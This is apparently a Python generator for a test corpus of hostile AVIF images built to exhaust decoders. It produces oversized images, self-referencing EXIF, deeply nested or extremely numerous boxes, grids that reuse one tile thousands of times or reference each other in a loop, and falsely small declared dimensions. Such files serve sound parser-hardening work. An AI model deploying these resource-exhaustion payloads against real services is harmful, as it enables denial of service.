"""AVIF files that cost their reader more than their author."""
import struct

from makers import maker, pillow
from png import looping_exif


@maker("avif-100-megapixels.avif")
def _():
    return pillow(10000, 10000, format="AVIF", speed=10, quality=30)


def box(name, content):
    return struct.pack(">I", len(content) + 8) + name + content


@maker("avif-exif-pointing-at-itself.avif")
def _():
    return pillow(16, 16, format="AVIF", exif=b"Exif\0\0" + looping_exif())


@maker("avif-exif-of-60-megabytes.avif")
def _():
    return pillow(16, 16, format="AVIF", exif=b"Exif\0\0" + looping_exif(65535) + b"\0" * 60_000_000)


@maker("avif-nested-boxes.avif")
def _():
    boxes = b""
    for _ in range(20_000):
        boxes = box(b"dinf", boxes)
    return box(b"ftyp", b"avif\0\0\0\0avifmif1") + box(b"meta", b"\0" * 4 + boxes)


@maker("avif-boxes-7-million.avif")
def _():
    return pillow(16, 16, format="AVIF") + box(b"free", b"") * 7_000_000


def avif(items, references, side=None, cell=512, behind=b""):
    """An AVIF of one coded tile as item 1 and of `items`, (number, type, inline data or None for the tile's data).

    `references` are (type, from, [to, ...]); item 2, if there is one, is the picture, of `side` pixels.
    """
    tile = pillow(cell, cell, format="AVIF", speed=10)
    data = tile[tile.index(b"mdat") + 4:] + behind
    at = tile.index(b"ipco")
    properties = tile[at + 4:at - 4 + struct.unpack(">I", tile[at - 4:at])[0]]
    count = ipco_count(properties)
    if side:
        properties += box(b"ispe", struct.pack(">III", 0, side, side))
    inline = b"".join(content for _, _, content in items if content)
    ftyp = box(b"ftyp", b"avif\0\0\0\0avifmif1miaf")

    def meta(offset):
        located, described, position = struct.pack(">HHHIHII", 1, 0, 0, 0, 1, offset, len(data)), b"", 0
        for number, kind, content in [(1, b"av01\0", None)] + items:
            described += box(b"infe", struct.pack(">IHH", 2 << 24, number, 0) + kind)
            if number == 1:
                continue
            place, length = (position, len(content)) if content else (offset, len(data))
            located += struct.pack(">HHHIHII", number, 1 if content else 0, 0, 0, 1, place, length)
            position += len(content or b"")
        referring = b"".join(
            box(kind, struct.pack(">HH", item, len(others)) + struct.pack(">%dH" % len(others), *others))
            for kind, item, others in references)
        own = struct.pack(">HB", 1, count) + bytes(range(1, count + 1))
        associated = [own] + [
            struct.pack(">HB", number, 1) + bytes([count + 1]) if side and number == 2 else
            struct.pack(">HB", number, count) + bytes(range(1, count + 1)) for number, _, _ in items]
        return box(b"meta", b"\0" * 4 + box(b"hdlr", b"\0" * 8 + b"pict" + b"\0" * 13)
                   + box(b"pitm", struct.pack(">IH", 0, 2 if items else 1))
                   + box(b"iloc", struct.pack(">IBBH", 1 << 24, 0x44, 0x40, len(items) + 1) + located)
                   + box(b"iinf", struct.pack(">IH", 0, len(items) + 1) + described)
                   + box(b"iref", b"\0" * 4 + referring)
                   + box(b"iprp", box(b"ipco", properties)
                         + box(b"ipma", struct.pack(">II", 0, len(associated)) + b"".join(associated)))
                   + box(b"idat", inline))
    return ftyp + meta(len(ftyp) + len(meta(0)) + 8) + box(b"mdat", data)


def grid(cells, side):
    return struct.pack(">BBBBHH", 0, 0, cells - 1, cells - 1, side, side)


@maker("avif-grid-of-one-tile.avif")
def _():
    return avif([(2, b"grid\0", grid(19, 9728))], [(b"dimg", 2, [1] * 361)], side=9728)


@maker("avif-grid-of-10000-tiles.avif")
def _():
    return avif([(2, b"grid\0", grid(100, 6400))], [(b"dimg", 2, [1] * 10_000)], side=6400, cell=64)


@maker("avif-grids-in-a-circle.avif")
def _():
    return avif([(2, b"grid\0", grid(1, 64)), (3, b"grid\0", grid(1, 64))],
                [(b"dimg", 2, [3]), (b"dimg", 3, [2])], cell=64)


@maker("avif-15-items-of-the-same-60-megabytes.avif")
def _():
    texts = [(number, b"mime\0application/rdf+xml\0", None) for number in range(3, 18)]
    return avif([(2, b"grid\0", grid(1, 64))] + texts,
                [(b"dimg", 2, [1])] + [(b"cdsc", number, [2]) for number, _, _ in texts],
                side=64, cell=64, behind=b"\0" * 60_000_000)


@maker("avif-coded-larger-than-it-says.avif")
def _():
    data = pillow(10000, 10000, format="AVIF", speed=10)
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", 64, 64) + data[at + 8:]


def ipco_count(content):
    at, count = 0, 0
    while at < len(content):
        at += struct.unpack(">I", content[at:at + 4])[0]
        count += 1
    return count
